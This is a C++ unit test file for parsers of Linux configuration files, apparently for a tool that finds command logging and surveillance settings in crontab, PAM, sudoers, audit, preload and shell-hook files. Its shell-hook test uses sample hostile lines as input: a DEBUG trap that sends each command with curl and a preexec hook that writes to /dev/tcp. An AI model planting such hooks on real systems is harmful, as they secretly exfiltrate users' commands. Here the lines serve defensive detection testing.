// Linux's configuration files, in the forms people write them.
#include "formats/linux_config.h"

#include "kit/hostile.h"

namespace contrechamp::config {
namespace {

using contrechamp::testing::for_every_damage;
using contrechamp::testing::get;
using contrechamp::testing::run;
using contrechamp::testing::sample;
using Words = std::vector<std::string>;

TEST(Ini, SectionsContinuationsAndComments) {
    const auto settings = parse_ini(
        "Key0=a\n[Unit]\n# c\n; c\nDescription = x = y \n[Service]\nExecStart=/bin/a \\\n  # not this\n  --b "
        "\\\n--c\nEmpty=\n[Broken\nK=v\nno equals\n");
    std::vector<std::string> flat;
    for (const auto& s : settings)
        flat.push_back(s.section + "|" + s.key + "|" + s.value + "|" + std::to_string(s.line));
    EXPECT_EQ(flat, (Words{"|Key0|a|1", "Unit|Description|x = y|5", "Service|ExecStart|/bin/a  --b  --c|7",
                           "Service|Empty||11", "Broken|K|v|13"}));
}

TEST(Ini, LongLinesArePassedOver) {
    const auto settings = parse_ini("a=" + std::string(100'000, 'x') + "\nb=1\n");
    ASSERT_EQ(settings.size(), 1);
    EXPECT_EQ(settings[0].key, "b");
    // A continuation that never ends is cut into pieces, not kept whole.
    for (const auto& setting :
         parse_ini("k=" + contrechamp::testing::repeated("yyyyyyyyyyyyyyy\\\n", 1'000'000)))
        EXPECT_LT(setting.value.size(), 200'000);
}

TEST(Keywords, ServersSettingsAndMatchBlocks) {
    const auto settings =
        parse_keywords(" PermitRootLogin  no \n#x\nPort=22\nMatch User bob\nX11Forwarding yes\nLonely\n");
    ASSERT_EQ(settings.size(), 5);
    EXPECT_EQ(settings[0].key + settings[0].value, "PermitRootLoginno");
    EXPECT_EQ(settings[1].value, "22");
    EXPECT_EQ(settings[3].section, "Match");
    EXPECT_EQ(settings[4].key + "|" + settings[4].value, "Lonely|");
}

TEST(Crontab, SystemAndPersonal) {
    const auto system = parse_crontab(sample("linux_config/crontab"), true);
    ASSERT_EQ(system.size(), 2);
    EXPECT_EQ(system[0].schedule + "|" + system[0].user + "|" + system[0].command,
              "*/5 * * * *|root|/opt/agent/x --y");
    EXPECT_EQ(
        system[1].schedule + "|" + system[1].user + "|" + system[1].command + std::to_string(system[1].line),
        "@reboot|alice|/usr/bin/ffmpeg -f x11grab4");
    const auto personal = parse_crontab(
        "MAILTO=a\n0 9 * * 1-5 /usr/bin/x %secret text%more\n@daily\tx\\%y\n@weekly\n1 2 3 4\n", false);
    ASSERT_EQ(personal.size(), 2);
    // What follows a % is a letter's text, not the command.
    EXPECT_EQ(personal[0].command, "/usr/bin/x");
    EXPECT_EQ(personal[1].command, "x\\%y");
}

TEST(Pam, ControlsInBrackets) {
    const auto lines = parse_pam(sample("linux_config/pam"));
    ASSERT_EQ(lines.size(), 3);
    EXPECT_EQ(lines[0].module, "pam_tty_audit.so");
    EXPECT_EQ(lines[0].arguments, Words{"enable=*"});
    EXPECT_EQ(lines[1].type + "|" + lines[1].control + "|" + lines[1].module,
              "session|[success=1 default=ignore]|pam_exec.so");
    EXPECT_EQ(lines[2].service, "login");
    EXPECT_TRUE(parse_pam("session [never ends\nsession\n[x] y z\n").empty());
}

TEST(Audit, RulesThatLogCommands) {
    const auto logs = [](const std::string& line) {
        const auto rules = parse_audit_rules(line);
        return rules.size() == 1 && rules[0].logs_commands;
    };
    EXPECT_TRUE(logs("-a always,exit -F arch=b64 -S execve -k x"));
    EXPECT_TRUE(logs("-a exit,always -S open,execve"));
    EXPECT_TRUE(logs("-A always,exit -S all"));
    EXPECT_FALSE(logs("-a always,exit -S execve_not"));
    EXPECT_FALSE(logs("-a never,exit -S execve"));
    EXPECT_FALSE(logs("# -a always,exit -S execve"));
    EXPECT_FALSE(logs("-a always,user -S execve"));
    const auto watch = parse_audit_rules("-w /home -p rwa -k h\n-e 0\n-D\n-w");
    ASSERT_EQ(watch.size(), 3);
    EXPECT_EQ(watch[0].watched, Words{"/home"});
    EXPECT_TRUE(watch[1].enabled_zero);
}

TEST(Sudoers, RecordingOnAndOff) {
    const auto lines = parse_sudoers(sample("linux_config/sudoers"));
    ASSERT_EQ(lines.size(), 2);
    EXPECT_TRUE(lines[0].log_input && lines[0].log_output);
    EXPECT_TRUE(lines[1].log_input && !lines[1].log_output);
    EXPECT_EQ(lines[1].line, 4);
    EXPECT_TRUE(
        parse_sudoers("Defaults !log_input\n#Defaults log_output\nalice ALL=NOLOG_INPUT: ALL\n").empty());
}

TEST(Passwd, SevenFields) {
    const auto lines =
        parse_passwd(sample("linux_config/passwd") + "a:b:4294967296:1::/h:/s\nb:x:5:5:::\nc:x:-1:1::/:/\n");
    ASSERT_EQ(lines.size(), 3);
    EXPECT_EQ(lines[1].name + lines[1].home + lines[1].shell + std::to_string(lines[1].uid),
              "bob/home/bob/usr/bin/tlog-rec-session1002");
    EXPECT_EQ(lines[2].name, "b");
    // As the C library reads this system's own.
    const auto python = run(
        "/usr/bin/python3 -c 'import pwd\nfor p in pwd.getpwall(): print(p.pw_name, p.pw_uid, p.pw_shell)'");
    std::string ours;
    for (const auto& line : parse_passwd(get("/etc/passwd")))
        ours += line.name + " " + std::to_string(line.uid) + " " + line.shell + "\n";
    if (python.code == 0) {
        EXPECT_EQ(ours, python.out);
    }
}

TEST(Preload, SeparatorsAndComments) {
    Words names;
    for (const auto& entry : parse_preload(sample("linux_config/ld.so.preload")))
        names.push_back(entry.library + "@" + std::to_string(entry.line));
    EXPECT_EQ(names, (Words{"/lib/x86_64-linux-gnu/libsnoopy.so@1", "/a@2", "/b@2", "/c@2"}));
}

TEST(ShellHooks, OnlyKnownWordsAreKept) {
    const auto hook = [](const std::string& line) {
        const auto hooks = parse_shell_hooks(line);
        std::string out = hooks.empty() ? "" : hooks[0].hook;
        if (!hooks.empty())
            for (const auto& send : hooks[0].sends) out += " " + send;
        return out;
    };
    EXPECT_EQ(hook("PROMPT_COMMAND='history -a; logger \"$(fc -ln -1)\"'"), "PROMPT_COMMAND logger history");
    EXPECT_EQ(hook("export PROMPT_COMMAND+='x'"), "PROMPT_COMMAND");
    EXPECT_EQ(hook("PROMPT_COMMAND=(a b)"), "PROMPT_COMMAND");
    EXPECT_EQ(hook("echo $PROMPT_COMMAND"), "");
    EXPECT_EQ(hook("trap 'curl -d \"$BASH_COMMAND\" https://x' DEBUG"), "trap-DEBUG curl");
    EXPECT_EQ(hook("trap 'rm x' EXIT"), "");
    EXPECT_EQ(hook("preexec() { echo $1 > /dev/tcp/1.2.3.4/5; }"), "preexec /dev/tcp");
    EXPECT_EQ(hook("add-zsh-hook preexec f"), "preexec");
    EXPECT_EQ(hook("exec script -q -f /var/log/x"), "script script");
    EXPECT_EQ(hook("tlog-rec-session"), "script");
    EXPECT_EQ(hook("# PROMPT_COMMAND=x"), "");
    EXPECT_EQ(hook("description=x"), "");
}

TEST(Udev, ProgramsThatRulesRun) {
    Words commands;
    for (const auto& run_ : parse_udev(sample("linux_config/99.rules"))) commands.push_back(run_.command);
    EXPECT_EQ(commands, (Words{"/opt/agent/x --usb %k", "/bin/y"}));
    EXPECT_TRUE(parse_udev("RUN\nRUN+=\nRUN+=x\nTRUN=\n").empty());
    EXPECT_EQ(parse_udev("RUN+=\"never ends").size(), 1);
}

TEST(Assignments, ProxySettings) {
    const auto list = parse_assignments(sample("linux_config/environment"));
    ASSERT_EQ(list.size(), 2);
    EXPECT_EQ(list[0].value, "http://u:p@proxy.example:3128");
    EXPECT_EQ(list[1].name, "HTTPS_PROXY");
    EXPECT_TRUE(parse_assignments("=x\na b=c\n-=1\n").empty());
    EXPECT_EQ(parse_assignments("a='\n")[0].value, "'");
}

TEST(Dpkg, InstalledPackages) {
    const auto packages = parse_dpkg_status(sample("linux_config/status"));
    ASSERT_EQ(packages.size(), 1);
    EXPECT_EQ(packages[0].name + packages[0].version + packages[0].architecture, "x11vnc0.9.16-9amd64");
    const auto real = run(
        "dpkg-query -W -f '${db:Status-Status} ${Package} ${Version}\\n' | sed -n 's/^installed //p' | sort");
    if (real.code == 0 && contrechamp::testing::fs::exists("/var/lib/dpkg/status")) {
        Words ours;
        for (const auto& package : parse_dpkg_status(get("/var/lib/dpkg/status")))
            ours.push_back(package.name + " " + package.version + "\n");
        Words theirs;
        for (std::size_t at = 0; at < real.out.size();) {
            const auto end = real.out.find('\n', at) + 1;
            theirs.push_back(real.out.substr(at, end - at));
            at = end;
        }
        std::sort(ours.begin(), ours.end());
        std::sort(theirs.begin(), theirs.end());
        EXPECT_EQ(ours, theirs);
    }
}

TEST(LinuxConfig, AnyDamageIsHarmless) {
    for (const char* name : {"unit.service", "crontab", "pam", "audit.rules", "sudoers", "passwd", "profile",
                             "99.rules", "environment", "status", "ld.so.preload", "sshd_config"}) {
        for_every_damage(sample(std::string("linux_config/") + name), [](std::string_view text) {
            const auto lines = static_cast<std::uint64_t>(std::count(text.begin(), text.end(), '\n')) + 1;
            for (const auto& s : parse_ini(text)) ASSERT_LE(s.line, lines);
            for (const auto& s : parse_keywords(text)) ASSERT_LE(s.line, lines);
            for (const auto& s : parse_crontab(text, true)) ASSERT_LE(s.line, lines);
            for (const auto& s : parse_crontab(text, false)) ASSERT_LE(s.line, lines);
            for (const auto& s : parse_pam(text)) ASSERT_LE(s.line, lines);
            for (const auto& s : parse_audit_rules(text)) ASSERT_LE(s.line, lines);
            for (const auto& s : parse_sudoers(text)) ASSERT_LE(s.line, lines);
            for (const auto& s : parse_passwd(text)) ASSERT_LE(s.line, lines);
            for (const auto& s : parse_preload(text)) ASSERT_LE(s.line, lines);
            for (const auto& s : parse_shell_hooks(text)) ASSERT_LE(s.line, lines);
            for (const auto& s : parse_udev(text)) ASSERT_LE(s.line, lines);
            for (const auto& s : parse_assignments(text)) ASSERT_LE(s.line, lines);
            for (const auto& s : parse_dpkg_status(text)) ASSERT_LE(s.line, lines);
        });
    }
}

}  // namespace
}  // namespace contrechamp::config
